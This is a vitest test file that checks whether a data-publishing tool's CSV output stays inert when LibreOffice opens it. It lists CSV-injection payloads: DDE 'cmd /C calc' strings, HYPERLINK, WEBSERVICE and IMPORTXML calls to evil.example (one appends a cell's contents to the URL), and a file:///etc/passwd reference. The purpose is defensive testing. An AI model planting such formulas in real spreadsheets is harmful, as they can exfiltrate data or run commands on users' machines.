/**
 * The published CSV opened in a spreadsheet: LibreOffice without a window, where it is installed
 * (Debian: `apt-get install libreoffice-calc-nogui`). It is not installed for the tests; where it
 * is absent they are skipped, and say so.
 */
import { existsSync, mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, test } from 'vitest';
import { toTableCsv, toSafeCsv } from '../../src/tables/records/csv.ts';
import { parseRows } from '../../src/tables/rows/table.ts';
import { toRecords } from '../../src/tables/records/records.ts';
import { parseTable } from '../../src/tables/text/csv.ts';
import { plainDialect } from '../../src/tables/descriptor/dialect.ts';
import { parseDescriptor } from '../../src/tables/descriptor/descriptor.ts';
import { payloads } from '../fixtures/payloads.ts';
import { office, openIn } from './office.ts';

if (!office)
  console.warn('NOT TESTED: the published CSV in a spreadsheet; LibreOffice is not installed.');
const folder = mkdtempSync(join(tmpdir(), 'waymark-spreadsheet-'));
afterAll(() => rmSync(folder, { recursive: true, force: true }));
const open = (csv: string, name: string) => openIn(folder, csv, name);

const strangers = join(
  import.meta.dirname,
  '../../../shared/real/csv-torture/csv-injection/Intruder/csv-payload.txt',
);
if (!existsSync(strangers))
  console.warn('NOT TESTED: the formula payloads of strangers; ../shared is not there.');

const formulas = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1+1)',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://evil.example/?"&A1,"open")',
  '=WEBSERVICE("https://evil.example")',
  '=IMPORTXML("https://evil.example","//a")',
  '=DDE("cmd";"/C calc";"x")',
  "-2+3+cmd|' /C calc'!D2",
  '+A1',
  '-A1',
  ' =1+1',
  '   =1+1',
  '\t=1+1',
  '\n=1+1',
  '\r=1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1)',
  '=\u200b1',
  '"=1+1"',
  ';=1+1',
  '{=1+1}',
  '=1+1;=2+2',
  '-1-1',
  '+-1',
  '@x',
  '=A1',
  "='file:///etc/passwd'#$x.A1",
  ...(existsSync(strangers)
    ? readFileSync(strangers, 'utf8')
        .split(/\r?\n/)
        .filter((line) => line !== '')
    : []),
];
const numbers = [
  '1',
  '-5.2',
  '+5.2',
  '0',
  '-0',
  '007',
  '1e5',
  '-1e-5',
  '+12',
  '3.14159',
  '-1000000',
  '12345678901234',
];

const plain = (text: string) => text.replace(/\s+/g, ' ').trim();

describe.skipIf(!office)('a spreadsheet (LibreOffice) that opens the published CSV', () => {
  test('runs what a stranger wrote, so that its silence elsewhere means something', () => {
    const cells = open(
      toTableCsv(['a'], [['=1+1'], ['=HYPERLINK("https://evil.example","x")']]),
      'running',
    ).flat();
    expect(cells.filter(({ formula }) => formula !== undefined)).toHaveLength(2);
  }, 300_000);

  test(
    'of a register finds no formula: each is refused before it is published, and every ' +
      'other text stays as it is',
    () => {
      const texts = [...formulas, ...payloads.filter((text) => !/[\0\r]/.test(text))];
      const resource = parseDescriptor(
        { resources: [{ name: 'r', path: 'r.csv', waymark: { register: 'terms' } }] },
        'data/datapackage.json',
      ).descriptor.resources[0]!;
      const { table } = parseTable(
        toTableCsv(
          ['id', 'term', 'definition'],
          texts.map((text, index) => [`t-${index}`, 'x', text]),
        ),
        plainDialect,
        'data/r.csv',
      );
      const typed = parseRows([table!], resource);
      const faults = [...typed.faults, ...toRecords(typed.rows, typed.resource).faults].filter(
        ({ severity }) => severity === 'error',
      );
      const refused = new Set(faults.map(({ line }) => line));
      const published = table!.rows
        .filter(({ line }) => !refused.has(line))
        .map(({ cells }) => [...cells]);
      expect(
        new Set(faults.filter(({ code }) => code === 'x-formula').map(({ line }) => line)).size,
      ).toBeGreaterThan(20);
      expect(published.length).toBeGreaterThan(300);
      const opened = open(toTableCsv(table!.header, published), 'register').slice(
        1,
        published.length + 1,
      );
      expect(opened.flat().filter(({ formula }) => formula !== undefined)).toEqual([]);
      // A text that is money in a spreadsheet ("$1") is shown as money.
      expect(
        opened
          .map(([, , cell], index) => [
            cell?.type,
            plain(cell?.text ?? ''),
            plain(published[index]![2]!),
          ])
          .filter(([type, found, wanted]) => type !== 'currency' && found !== wanted),
      ).toEqual([]);
    },
    300_000,
  );

  test("of a stranger's table finds none in its safe twin, and alters no honest number", () => {
    const rows = [
      ...formulas.map((text) => [text, 'formula']),
      ...numbers.map((text) => [text, 'number']),
    ];
    const safe = toSafeCsv(['value', 'kind'], rows);
    const opened = open(safe, 'safe').slice(1, rows.length + 1);
    expect(opened.flat().filter(({ formula }) => formula !== undefined)).toEqual([]);
    expect(
      formulas.filter(
        (text, index) => ![plain(text), plain(`'${text}`)].includes(plain(opened[index]![0]!.text)),
      ),
    ).toEqual([]);
    const found = opened.slice(formulas.length).map(([cell]) => cell!);
    expect(found.map(({ type }) => type)).toEqual(numbers.map(() => 'float'));
    expect(found.map(({ value }) => Number(value) + 0)).toEqual(
      numbers.map((text) => Number(text) + 0),
    );
    for (const number of numbers) expect(safe).toContain(`\n${number},number`);
  }, 300_000);
});
